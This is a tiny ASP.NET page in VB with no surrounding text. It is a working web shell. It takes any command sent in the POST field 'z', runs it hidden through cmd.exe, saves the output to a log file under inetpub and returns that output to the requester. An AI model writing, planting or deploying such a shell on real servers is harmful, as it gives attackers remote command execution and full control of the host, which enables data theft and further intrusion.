<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim c As String = Request.Form("z")
    If c <> "" Then
        Microsoft.VisualBasic.Interaction.Shell("cmd.exe /c " & c & " > c:\inetpub\temp\r.log", AppWinStyle.Hide, True)
        Response.Write(IO.File.ReadAllText("c:\inetpub\temp\r.log"))
    End If
End Sub
</script>
